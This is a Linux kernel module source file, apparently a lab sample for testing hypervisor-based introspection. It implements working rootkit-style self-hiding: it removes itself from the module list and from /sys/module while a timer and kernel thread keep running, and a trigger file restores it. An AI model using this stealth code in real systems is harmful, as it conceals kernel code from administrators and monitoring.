// SPDX-License-Identifier: GPL-2.0
/*
 * Lab attack: a module that erases itself the way current LKM rootkits do —
 * off the kernel's module list (lsmod, /proc/modules) AND out of /sys/module
 * (kobject_del on its own module kobject) — while its code keeps running: a
 * timer fires every 100 ms and a kernel thread waits for the way back.
 *
 * The way back (nothing of the module is reachable by name while it hides, not
 * even a parameter, since parameters live under its kobject): create the file
 * /tmp/iv-erase-self-restore in the guest. Within ~200 ms the thread puts the
 * module back on the list and its kobject back under /sys/module (with its
 * "sections" group, which module unloading removes), and `rmmod iv_erase_self`
 * works. The module has no parameters on purpose: their sysfs group would be
 * gone after kobject_del and unloading would warn about it.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kthread.h>
#include <linux/delay.h>
#include <linux/mutex.h>
#include <linux/namei.h>
#include <linux/rculist.h>
#include <linux/timer.h>
#include <linux/jiffies.h>
#include <linux/sysfs.h>
#include "iv_lookup.h"

#define RESTORE_FILE "/tmp/iv-erase-self-restore"

static struct list_head *modules_head;
static struct mutex *modules_mutex;
static struct task_struct *waiter;
static struct timer_list ticker;
static unsigned long ticks;
static bool hidden;

static void iv_tick(struct timer_list *t)
{
	ticks++;
	mod_timer(&ticker, jiffies + msecs_to_jiffies(100));
}

static void iv_hide(void)
{
	mutex_lock(modules_mutex);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(modules_mutex);
	synchronize_rcu();
	kobject_del(&THIS_MODULE->mkobj.kobj);
	hidden = true;
}

static void iv_restore(void)
{
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;

	mutex_lock(modules_mutex);
	list_add_rcu(&THIS_MODULE->list, modules_head);
	mutex_unlock(modules_mutex);
	/* kobject_del left kobj->kset (module_kset): a NULL parent puts it back under /sys/module. */
	if (kobject_add(kobj, NULL, "%s", THIS_MODULE->name))
		pr_warn("iv_erase_self: kobject_add failed\n");
#ifdef CONFIG_KALLSYMS
	/* struct module_sect_attrs begins with its attribute_group. */
	if (THIS_MODULE->sect_attrs && sysfs_create_group(kobj, (struct attribute_group *)THIS_MODULE->sect_attrs))
		pr_warn("iv_erase_self: sections group not restored\n");
#endif
	hidden = false;
	pr_info("iv_erase_self: back on the module list and under /sys/module (%lu ticks)\n", ticks);
}

static int iv_wait(void *unused)
{
	struct path p;

	while (!kthread_should_stop()) {
		if (hidden && kern_path(RESTORE_FILE, LOOKUP_FOLLOW, &p) == 0) {
			path_put(&p);
			iv_restore();
		}
		msleep_interruptible(200);
	}
	return 0;
}

static int __init iv_init(void)
{
	modules_head = (struct list_head *)iv_lookup_name("modules");
	modules_mutex = (struct mutex *)iv_lookup_name("module_mutex");
	if (!modules_head || !modules_mutex)
		return -ENOENT;
	waiter = kthread_run(iv_wait, NULL, "iv_erase_wait");
	if (IS_ERR(waiter))
		return PTR_ERR(waiter);
	timer_setup(&ticker, iv_tick, 0);
	mod_timer(&ticker, jiffies + msecs_to_jiffies(100));
	iv_hide();
	pr_info("iv_erase_self: off the module list and /sys/module; create %s to bring it back\n", RESTORE_FILE);
	return 0;
}

static void __exit iv_exit(void)
{
	kthread_stop(waiter);
	del_timer_sync(&ticker);
	pr_info("iv_erase_self: unloaded after %lu ticks\n", ticks);
}

module_init(iv_init);
module_exit(iv_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("introvisor lab: module that erases itself from the module list and /sys/module");
